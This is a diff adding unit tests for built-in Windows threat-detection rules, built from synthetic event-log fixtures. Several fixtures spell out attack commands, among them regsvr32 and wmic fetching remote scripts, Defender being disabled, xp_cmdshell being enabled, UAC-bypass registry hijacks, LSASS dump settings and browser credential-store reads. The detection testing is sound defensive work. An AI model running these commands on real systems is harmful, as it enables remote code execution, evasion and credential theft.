@@ -78,6 +78,233 @@ describe('built-in Windows rules', () => {
     expect(machine.size).toBe(0);
   });
 
+  const SEC = ['Security', 'Microsoft-Windows-Security-Auditing'] as const;
+  const SYSMON = ['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon'] as const;
+  const proc = (t: number, image: string, commandLine: string, extra: JsonRecord = {}, host = 'SRV01'): ReturnType<typeof makeEvent> =>
+    win(t, ...SEC, 4688, { SubjectUserName: 'alice', NewProcessName: image, CommandLine: commandLine, ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', ...extra }, host);
+  const sysmon1 = (t: number, image: string, commandLine: string, extra: JsonRecord = {}): ReturnType<typeof makeEvent> =>
+    win(t, ...SYSMON, 1, { Image: image, CommandLine: commandLine, User: 'CORP\\alice', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ...extra });
+  const sec = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SEC, eventId, data);
+  /** Each event alone: the titles of its built-in hits. */
+  const titlesOf = (e: ReturnType<typeof makeEvent>): string[] => [...hits([e]).keys()];
+
+  it('process creation: remote-execution output, SQL clients, service ACLs, WSL, diskshadow, Defender, single-user SQL Server, setspn', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const h = hits([
+      sysmon1(1, `${S32}cmd.exe`, `cmd.exe /Q /c C:\\Windows\\TEMP\\run.bat`, { ParentCommandLine: 'cmd.exe /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\run.bat' }),
+      proc(2, 'C:\\Program Files\\Microsoft SQL Server\\Tools\\Binn\\SQLCMD.EXE', 'sqlcmd -S .\\PROD'),
+      proc(3, 'C:\\Program Files\\Microsoft SQL Server\\Tools\\Binn\\SQLCMD.EXE', 'sqlcmd -Q "EXEC sp_configure \'xp_cmdshell\', 1"'),
+      proc(4, `${S32}sc.exe`, 'sc sdset svc D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)'),
+      proc(5, `${S32}reg.exe`, 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\svc\\Security" /v Security /t REG_BINARY /d 00'),
+      proc(6, `${S32}Dism.exe`, 'Dism.exe /online /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux /all'),
+      proc(7, `${S32}diskshadow.exe`, 'diskshadow.exe /s script.txt'),
+      proc(8, `${S32}Taskmgr.exe`, 'taskmgr.exe /4'),
+      proc(9, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe -command "Set-MpPreference -DisableRealtimeMonitoring $true"'),
+      proc(10, `${S32}net.exe`, 'net start MSSQL$PROD /m'),
+      proc(11, `${S32}setspn.exe`, 'setspn -a MSSQLSvc/db01.corp.example:1433 CORP\\svc-sql'),
+      proc(12, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0'),
+    ]);
+    expect(h.get('Command Output Redirected To A Local Administrative Share')).toEqual({ level: 'high', tactics: ['execution', 'lateral-movement'] });
+    expect(h.get('SQL Server Command Line Client Run')?.level).toBe('low');
+    expect(h.get('SQL Command Line Client Enables Or Runs Code Execution Features')?.level).toBe('high');
+    expect(h.get('Service Security Descriptor Changed From The Command Line')?.tactics).toContain('persistence');
+    expect(h.get('Windows Subsystem For Linux Installed Or Used')).toEqual({ level: 'low', tactics: ['stealth'] });
+    expect(h.get('Diskshadow Run')).toEqual({ level: 'medium', tactics: ['credential-access'] });
+    expect(h.get('Task Manager Started')?.level).toBe('informational');
+    expect(h.get('Defender Preferences Weakened From The Command Line')).toEqual({ level: 'high', tactics: ['defense-impairment'] });
+    expect(h.get('SQL Server Started In Single-User Mode From The Command Line')?.level).toBe('medium');
+    expect(h.get('Service Principal Name Added To An Account From The Command Line')?.tactics).toContain('persistence');
+    expect(h.get('OpenSSH Server Installed Or Started From The Command Line')?.tactics).toContain('lateral-movement');
+    // Near misses: output to another host's share, a plain query, a service query, Defender signature settings, a normal SQL start, an SPN query.
+    expect(titlesOf(proc(20, `${S32}cmd.exe`, 'cmd.exe /c dir > \\\\fs01\\logs\\out.txt'))).toEqual([]);
+    expect(titlesOf(proc(21, `${S32}sc.exe`, 'sc query svc'))).not.toContain('Service Security Descriptor Changed From The Command Line');
+    expect(titlesOf(proc(22, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe Set-MpPreference -SignatureUpdateInterval 4'))).toEqual([]);
+    expect(titlesOf(proc(23, `${S32}net.exe`, 'net start MSSQL$PROD'))).not.toContain('SQL Server Started In Single-User Mode From The Command Line');
+    expect(titlesOf(proc(24, `${S32}setspn.exe`, 'setspn -Q */*'))).not.toContain('Service Principal Name Added To An Account From The Command Line');
+    expect(titlesOf(proc(25, 'C:\\Program Files\\Microsoft SQL Server\\Tools\\Binn\\SQLCMD.EXE', 'sqlcmd -Q "SELECT 1"'))).toEqual(['SQL Server Command Line Client Run']);
+  });
+
+  it('discovery commands: informational each, five different ones on a host in ten minutes are a burst, the system account none', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const cmds: [string, string][] = [
+      [`${S32}auditpol.exe`, 'auditpol /get /category:*'],
+      [`${S32}netsh.exe`, 'netsh advfirewall show allprofiles'],
+      [`${S32}schtasks.exe`, 'schtasks /query /xml'],
+      [`${S32}net.exe`, 'net share'],
+      [`${S32}whoami.exe`, 'whoami /all'],
+    ];
+    const h = hits(cmds.map(([image, cl], i) => proc(i * 60, image, cl)));
+    expect(h.get('Built-in Discovery Command')).toEqual({ level: 'informational', tactics: ['discovery'] });
+    expect(h.get('Burst Of Built-in Discovery Commands On One Host')).toEqual({ level: 'medium', tactics: ['discovery'] });
+    const four = hits(cmds.slice(0, 4).map(([image, cl], i) => proc(i * 60, image, cl)));
+    expect(four.has('Burst Of Built-in Discovery Commands On One Host')).toBe(false);
+    const system = hits(cmds.map(([image, cl], i) => proc(i * 60, image, cl, { SubjectUserName: 'SRV01$' })));
+    expect(system.size).toBe(0);
+  });
+
+  it('Security log: runas and shell logons, loopback NTLM, valid password refused, accessibility programs, WinRM, directory, Exchange groups, shares, hard links', () => {
+    const h = hits([
+      sec(1, 4624, { TargetUserName: 'bob', LogonType: 2, LogonProcessName: 'seclogo', ProcessName: 'C:\\Windows\\System32\\svchost.exe' }),
+      sec(2, 4648, { SubjectUserName: 'alice', TargetUserName: 'bob', TargetServerName: 'localhost', ProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }),
+      sec(3, 4624, { TargetUserSid: 'S-1-5-7', TargetUserName: 'ANONYMOUS LOGON', LogonType: 3, AuthenticationPackageName: 'NTLM', IpAddress: '127.0.0.1' }),
+      sec(4, 4625, { TargetUserName: 'bob', Status: '0xc000006e', SubStatus: '0xc000006f', LogonType: 10 }),
+      sec(5, 4656, { SubjectUserName: 'alice', ObjectName: 'C:\\Windows\\System32\\sethc.exe', AccessList: '%%1537\r\n\t%%4417\r\n', ProcessName: 'C:\\Windows\\System32\\cmd.exe' }),
+      sec(6, 4656, { SubjectUserName: 'alice', ObjectServer: 'WS-Management Listener', ObjectName: 'Unknown' }),
+      sec(7, 5136, { SubjectUserName: 'alice', ObjectDN: 'CN=User-Force-Change-Password,CN=Extended-Rights,CN=Configuration,DC=corp,DC=example', AttributeLDAPDisplayName: 'localizationDisplayId' }),
+      sec(8, 4742, { SubjectUserName: 'alice', TargetUserName: 'PC01$', SamAccountName: 'DC01' }),
+      sec(9, 4756, { SubjectUserName: 'alice', TargetUserName: 'Exchange Windows Permissions', MemberName: 'CN=eve,DC=corp,DC=example' }),
+      sec(10, 5143, { SubjectUserName: 'alice', ShareName: '\\\\*\\data', OldSD: 'O:BAG:DUD:(A;;0x1200a9;;;WD)', NewSD: 'O:BAG:DUD:(A;;FA;;;WD)' }),
+      sec(11, 4664, { SubjectUserName: 'alice', FileName: 'C:\\Windows\\System32\\drivers\\etc\\hosts', LinkName: 'C:\\Users\\alice\\AppData\\Local\\Temp\\x' }),
+    ]);
+    expect(h.get('Logon Through The Secondary Logon Service (runas)')?.tactics).toContain('privilege-escalation');
+    expect(h.get('Logon With Explicit Credentials Made By A Shell Or Script Host')?.level).toBe('medium');
+    expect(h.get('Anonymous NTLM Logon From The Host Itself')?.tactics).toContain('privilege-escalation');
+    expect(h.get('Logon Refused By An Account Restriction After A Valid Password')?.tactics).toContain('initial-access');
+    expect(h.get('Write Access To An Accessibility Program Requested')?.tactics).toEqual(['persistence', 'privilege-escalation']);
+    expect(h.get('WS-Management Listener Used By An Account')?.tactics).toContain('lateral-movement');
+    expect(h.get('Directory Extended Right Or Schema Object Changed')?.level).toBe('medium');
+    expect(h.get('Computer Account Renamed Without A Trailing $')?.level).toBe('high');
+    expect(h.get('Member Added To An Exchange Group With Directory Write Rights')?.tactics).toContain('credential-access');
+    expect(h.get('Share Permissions Changed')?.level).toBe('low');
+    expect(h.get('Hard Link To A System File Created By A User')?.level).toBe('medium');
+    // Near misses.
+    expect(titlesOf(sec(20, 4624, { TargetUserName: 'bob', LogonType: 2, LogonProcessName: 'User32', ProcessName: 'C:\\Windows\\System32\\svchost.exe' }))).toEqual([]);
+    expect(titlesOf(sec(21, 4624, { TargetUserSid: 'S-1-5-7', TargetUserName: 'ANONYMOUS LOGON', LogonType: 3, AuthenticationPackageName: 'NTLM', IpAddress: '10.0.0.5' }))).not.toContain('Anonymous NTLM Logon From The Host Itself');
+    expect(titlesOf(sec(22, 4625, { TargetUserName: 'bob', Status: '0xc000006d', SubStatus: '0xc000006a', LogonType: 3 }))).not.toContain('Logon Refused By An Account Restriction After A Valid Password');
+    expect(titlesOf(sec(23, 4656, { SubjectUserName: 'alice', ObjectName: 'C:\\Windows\\System32\\sethc.exe', AccessList: '%%4416\r\n%%1541\r\n', ProcessName: 'C:\\Windows\\explorer.exe' }))).toEqual([]);
+    expect(titlesOf(sec(24, 4656, { SubjectUserName: 'SRV01$', ObjectServer: 'WS-Management Listener' }))).toEqual([]);
+    expect(titlesOf(sec(25, 4742, { SubjectUserName: 'alice', TargetUserName: 'PC01$', SamAccountName: '-' }))).not.toContain('Computer Account Renamed Without A Trailing $');
+    expect(titlesOf(sec(26, 4742, { SubjectUserName: 'alice', TargetUserName: 'PC01$', SamAccountName: 'PC02$' }))).not.toContain('Computer Account Renamed Without A Trailing $');
+    expect(titlesOf(sec(27, 4756, { SubjectUserName: 'alice', TargetUserName: 'Marketing', MemberName: 'CN=eve' }))).not.toContain('Member Added To An Exchange Group With Directory Write Rights');
+    expect(titlesOf(sec(28, 5143, { SubjectUserName: 'alice', ShareName: '\\\\*\\data', OldSD: 'O:BAG:DUD:(A;;FA;;;WD)', NewSD: 'O:BAG:DUD:(A;;FA;;;WD)' }))).not.toContain('Share Permissions Changed');
+    expect(titlesOf(sec(29, 4664, { SubjectUserName: 'alice', FileName: 'D:\\data\\a.txt', LinkName: 'D:\\data\\b.txt' }))).toEqual(['Hard Link Created']);
+  });
+
+  it('Sysmon, PowerShell, DNS server audit and Setup: accessibility files, one-shot services, drivers, RDP policy, BITS, encoded engines, DNS logging and plugins, WSL', () => {
+    const reg = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SYSMON, eventId, data);
+    const ps = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const engine = (t: number, hostApplication: string): ReturnType<typeof makeEvent> =>
+      win(t, 'Windows PowerShell', 'PowerShell', 400, { Data: { '#text': ['Available', 'None', `\tNewEngineState=Available\r\n\tHostApplication=${hostApplication}\r\n`] } });
+    const h = hits([
+      win(1, ...SYSMON, 11, { Image: 'C:\\Windows\\System32\\cmd.exe', TargetFilename: 'C:\\Windows\\System32\\sethc.exe' }),
+      reg(2, 13, { EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\XYZ\\ImagePath', Details: '%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output' }),
+      reg(3, 13, { EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\drv\\ImagePath', Details: '\\??\\C:\\Users\\alice\\Desktop\\drv.sys' }),
+      reg(4, 12, { EventType: 'CreateKey', Image: 'C:\\Windows\\system32\\reg.exe', TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services' }),
+      ps(5, 'Start-BitsTransfer -Source https://files.example.net/a.exe -Destination C:\\Users\\Public\\a.exe'),
+      ps(6, 'Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0'),
+      engine(7, "powershell.exe -nop -w 1 -C & ( $PshOMe[4]+$PshoME[30]+'X')((91,78,101) -join '')"),
+      win(8, 'Microsoft-Windows-DNSServer/Audit', 'Microsoft-Windows-DNSServer', 541, { Setting: 'UseSystemEventLog', Scope: '.', NewValue: '0' }),
+      win(9, 'Microsoft-Windows-DNSServer/Audit', 'Microsoft-Windows-DNSServer', 541, { Setting: 'ServerLevelPluginDll', Scope: '.', NewValue: '\\\\10.0.0.9\\s\\p.dll' }),
+      win(10, 'Setup', 'Microsoft-Windows-Servicing', 9, { UpdateName: 'Microsoft-Windows-Subsystem-Linux', PackageIdentifier: 'Microsoft-Windows-Lxss-Optional' }),
+    ]);
+    expect(h.get('Accessibility Program Replaced (Sysmon 11)')?.level).toBe('high');
+    expect(h.get('Service Created With A Shell Command As Its Program (Sysmon 13)')).toEqual({ level: 'high', tactics: ['execution', 'persistence', 'lateral-movement'] });
+    expect(h.get('Kernel Driver Service Pointing Outside The Windows Folder (Sysmon 13)')?.level).toBe('medium');
+    expect(h.get('Terminal Services Policy Changed By A Command Line Tool (Sysmon 12/13)')?.tactics).toEqual(['lateral-movement', 'collection']);
+    expect(h.get('PowerShell BITS Transfer (script block 4104)')?.tactics).toEqual(['persistence', 'stealth']);
+    expect(h.get('PowerShell Installs The OpenSSH Server (script block 4104)')?.tactics).toContain('lateral-movement');
+    expect(h.get('PowerShell Engine Started With An Encoded Or Obfuscated Command')?.tactics).toContain('stealth');
+    expect(h.get('DNS Server Logging Setting Changed')).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
+    expect(h.get('DNS Server Plugin DLL Set')?.level).toBe('high');
+    expect(h.get('Windows Subsystem For Linux Feature Installed (Setup)')?.tactics).toEqual(['stealth']);
+    // Near misses: servicing writes a system file, a service with a plain program, a driver in System32, a value read, a plain engine start, other DNS settings and features.
+    expect(titlesOf(win(20, ...SYSMON, 11, { Image: 'C:\\Windows\\servicing\\TrustedInstaller.exe', TargetFilename: 'C:\\Windows\\System32\\sethc.exe' }))).toEqual([]);
+    expect(titlesOf(reg(21, 13, { EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\svc\\ImagePath', Details: 'C:\\Program Files\\Vendor\\svc.exe' }))).toEqual([]);
+    expect(titlesOf(reg(22, 13, { EventType: 'SetValue', Image: 'C:\\Windows\\system32\\services.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\drv\\ImagePath', Details: '\\SystemRoot\\System32\\drivers\\drv.sys' }))).toEqual([]);
+    expect(titlesOf(reg(23, 12, { EventType: 'CreateKey', Image: 'C:\\Windows\\System32\\svchost.exe', TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services' }))).toEqual([]);
+    expect(titlesOf(engine(24, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'))).toEqual([]);
+    expect(titlesOf(win(25, 'Microsoft-Windows-DNSServer/Audit', 'Microsoft-Windows-DNSServer', 541, { Setting: 'Forwarders', Scope: '.', NewValue: '10.0.0.1' }))).toEqual([]);
+    expect(titlesOf(win(26, 'Setup', 'Microsoft-Windows-Servicing', 9, { UpdateName: 'Printing-XPSServices-Features' }))).toEqual([]);
+  });
+
+  it('lateral movement and tunnels: RID 500 network logons, bare service programs, WMI and WinRM children, RDP client files, pipes and shares, RDP over loopback', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const h = hits([
+      sec(1, 4624, { TargetUserSid: 'S-1-5-21-1-2-3-500', TargetUserName: 'Administrator', LogonType: 3, IpAddress: '10.0.2.17' }),
+      win(2, 'System', 'Service Control Manager', 7045, { ServiceName: 'x', ImagePath: 'cmd.exe', StartType: 'auto start' }),
+      sysmon1(3, `${S32}calc.exe`, 'calc.exe', { ParentImage: `${S32}wbem\\WmiPrvSE.exe` }),
+      sysmon1(4, `${S32}whoami.exe`, 'whoami', { ParentImage: `${S32}wsmprovhost.exe` }),
+      win(5, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: 'false', SourceIp: '10.0.0.9', DestinationPort: 5985 }),
+      win(6, ...SYSMON, 11, { Image: `${S32}mstsc.exe`, TargetFilename: 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe' }),
+      win(7, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Parameters\\NullSessionPipes', Details: 'x' }),
+      sec(8, 4624, { TargetUserName: 'bob', LogonType: 10, IpAddress: '127.0.0.1' }),
+      win(9, ...SYSMON, 3, { Image: 'C:\\Users\\bob\\plink.exe', Initiated: 'true', SourceIp: '127.0.0.1', DestinationIp: '127.0.0.1', DestinationPort: 3389 }),
+    ]);
+    expect(h.get('Network Logon With A Built-in Administrator Account')?.tactics).toEqual(['lateral-movement']);
+    expect(h.get('Service Installed With A Program Name Without A Folder')?.level).toBe('high');
+    expect(h.get('Program Started By The WMI Provider Host')?.tactics).toEqual(['execution', 'lateral-movement']);
+    expect(h.get('Program Started By A WinRM Or PowerShell Remoting Host')?.tactics).toContain('lateral-movement');
+    expect(h.get('Inbound WinRM Connection (Sysmon 3)')?.level).toBe('low');
+    expect(h.get('File Written By The Remote Desktop Client (Sysmon 11)')?.tactics).toContain('lateral-movement');
+    expect(h.get('Named Pipe Opened To Anonymous Access (NullSessionPipes)')?.level).toBe('high');
+    expect(h.get('Remote Desktop Logon From The Loopback Address')?.tactics).toContain('command-and-control');
+    expect(h.get('Remote Desktop Connection Over The Loopback Address (Sysmon 3)')?.tactics).toEqual(['command-and-control']);
+    // Near misses: RID 500 from the host itself, a service with a full path, WmiPrvSE's own crash reporter, an outbound WinRM connection, RDP from the network.
+    expect(titlesOf(sec(20, 4624, { TargetUserSid: 'S-1-5-21-1-2-3-500', TargetUserName: 'Administrator', LogonType: 3, IpAddress: '::1' }))).toEqual([]);
+    expect(titlesOf(win(21, 'System', 'Service Control Manager', 7045, { ServiceName: 'x', ImagePath: '"C:\\Program Files\\Vendor\\svc.exe" -k', StartType: 'auto start' }))).toEqual(['New Service Installed']);
+    expect(titlesOf(sysmon1(22, `${S32}WerFault.exe`, 'WerFault.exe -u', { ParentImage: `${S32}wbem\\WmiPrvSE.exe` }))).toEqual([]);
+    expect(titlesOf(win(23, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: 'true', SourceIp: '10.0.0.5', DestinationPort: 5985 }))).toEqual([]);
+    expect(titlesOf(sec(24, 4624, { TargetUserName: 'bob', LogonType: 10, IpAddress: '10.0.0.9' }))).not.toContain('Remote Desktop Logon From The Loopback Address');
+  });
+
+  it('persistence, privilege escalation, evasion and credential access: registry locations, UAC bypasses, pipe tricks, log service, unmanaged PowerShell, credential stores', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const set = (t: number, target: string, details = 'C:\\Users\\bob\\a.dll', image = `${S32}reg.exe`): ReturnType<typeof makeEvent> =>
+      win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: target, Details: details });
+    const h = hits([
+      set(1, 'HKU\\S-1-5-21-1-2-3-1001_Classes\\CLSID\\{0000-1111}\\InprocServer32\\(Default)'),
+      set(2, 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders\\Startup', 'C:\\Users\\Public\\s'),
+      set(3, 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB\\{x}\\DatabasePath', 'C:\\x.sdb'),
+      set(4, 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\\eve', 'DWORD (0x00000000)'),
+      set(5, 'HKU\\S-1-5-21-1-2-3-1001_Classes\\ms-settings\\shell\\open\\command\\(Default)', 'cmd.exe'),
+      sysmon1(6, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: `${S32}fodhelper.exe` }),
+      win(7, ...SYSMON, 17, { Image: 'C:\\Users\\bob\\ps.exe', PipeName: '\\abc\\pipe\\spoolss' }),
+      win(8, 'System', 'Service Control Manager', 7036, { param1: 'Windows Event Log', param2: 'stopped' }),
+      sec(9, 4720, { SubjectUserName: 'alice', TargetUserName: 'WKS99$' }),
+      win(10, ...SYSMON, 7, { Image: 'C:\\Users\\bob\\implant.exe', ImageLoaded: 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.Automation\\System.Management.Automation.ni.dll' }),
+      sec(11, 4663, { SubjectUserName: 'bob', ObjectName: 'C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data', ProcessName: 'C:\\Users\\bob\\dump.exe' }),
+      set(12, 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe\\ReportingMode', 'DWORD (0x00000002)'),
+      set(13, 'HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LmCompatibilityLevel', 'DWORD (0x00000002)'),
+      sec(14, 4624, { TargetUserName: 'bob', LogonType: 2, ProcessName: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' }),
+      set(15, 'HKU\\S-1-5-21-1-2-3-1001\\Environment\\__PSLockdownPolicy', 'DWORD (0x00000008)'),
+      set(16, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA', 'DWORD (0x00000000)'),
+    ]);
+    expect(h.get('COM Server Registered In The User Hive')?.tactics).toContain('persistence');
+    expect(h.get('Startup Folder Location Changed')?.level).toBe('high');
+    expect(h.get('Application Shim Database Installed')?.tactics).toContain('persistence');
+    expect(h.get('Account Hidden From The Logon Screen')?.level).toBe('high');
+    expect(h.get('UAC Bypass Through A Hijacked Auto-Elevating Handler')?.tactics).toContain('privilege-escalation');
+    expect(h.get('Program Started By An Auto-Elevating Windows Program')?.tactics).toContain('privilege-escalation');
+    expect(h.get('Named Pipe With An Embedded Pipe Path (Token Impersonation)')?.tactics).toContain('privilege-escalation');
+    expect(h.get('Windows Event Log Service Stopped Or Crashed')).toEqual({ level: 'high', tactics: ['defense-impairment'] });
+    expect(h.get('User Account Created With A Computer-Like Name')?.level).toBe('high');
+    expect(h.get('PowerShell Engine Loaded By A Non-PowerShell Process (Sysmon 7)')?.tactics).toContain('execution');
+    expect(h.get('Browser Credential Store Read By Another Program')?.tactics).toEqual(['credential-access']);
+    expect(h.get('Silent Process Exit Monitoring Set For LSASS')?.level).toBe('high');
+    expect(h.get('NTLM Security Settings Weakened In The Registry')?.tactics).toContain('credential-access');
+    expect(h.get('Interactive Logon Requested By An Unusual Program')?.tactics).toContain('credential-access');
+    expect(h.get('PowerShell Language Mode Variable Written')?.level).toBe('high');
+    expect(h.get('User Account Control Disabled In The Registry')?.tactics).toContain('privilege-escalation');
+    // Near misses: machine-hive COM, the default Startup folder, a normal pipe, another service stopping, a normal user name, the PowerShell host, the browser itself, UAC left on.
+    expect(titlesOf(set(20, 'HKLM\\SOFTWARE\\Classes\\CLSID\\{0000-1111}\\InprocServer32\\(Default)', 'C:\\Windows\\System32\\x.dll', `${S32}msiexec.exe`))).toEqual([]);
+    expect(titlesOf(set(21, 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders\\Startup', '%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup', 'C:\\Windows\\explorer.exe'))).toEqual([]);
+    expect(titlesOf(win(22, ...SYSMON, 17, { Image: `${S32}spoolsv.exe`, PipeName: '\\spoolss' }))).toEqual([]);
+    expect(titlesOf(win(23, 'System', 'Service Control Manager', 7036, { param1: 'Print Spooler', param2: 'stopped' }))).toEqual([]);
+    expect(titlesOf(sec(24, 4720, { SubjectUserName: 'alice', TargetUserName: 'eve' }))).not.toContain('User Account Created With A Computer-Like Name');
+    expect(titlesOf(win(25, ...SYSMON, 7, { Image: `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, ImageLoaded: 'C:\\Windows\\assembly\\System.Management.Automation.ni.dll' }))).toEqual([]);
+    expect(titlesOf(sec(26, 4663, { SubjectUserName: 'bob', ObjectName: 'C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data', ProcessName: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' }))).toEqual([]);
+    expect(titlesOf(set(27, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA', 'DWORD (0x00000001)'))).toEqual([]);
+    expect(titlesOf(sec(28, 4624, { TargetUserName: 'bob', LogonType: 2, ProcessName: `${S32}svchost.exe` }))).toEqual([]);
+  });
+
+  it('execution: script content through regsvr32, mshta, rundll32 and wmic; a plain regsvr32 of a DLL is not', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    expect(titlesOf(sysmon1(1, `${S32}regsvr32.exe`, 'regsvr32 /s /n /u /i:http://10.0.0.9/a.sct scrobj.dll'))).toContain('Script Content Run Through A Windows Proxy Program');
+    expect(titlesOf(sysmon1(2, 'C:\\Users\\bob\\x.exe', 'x.exe /s /i:https://10.0.0.9/a.sct scrobj.dll', { OriginalFileName: 'REGSVR32.EXE' }))).toContain('Script Content Run Through A Windows Proxy Program');
+    expect(titlesOf(sysmon1(3, `${S32}wbem\\WMIC.exe`, 'wmic os get /format:"https://10.0.0.9/a.xsl"'))).toContain('Script Content Run Through A Windows Proxy Program');
+    expect(titlesOf(sysmon1(4, `${S32}regsvr32.exe`, 'regsvr32 /s C:\\Program Files\\Vendor\\x.dll'))).not.toContain('Script Content Run Through A Windows Proxy Program');
+  });
+
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
   it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
     const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
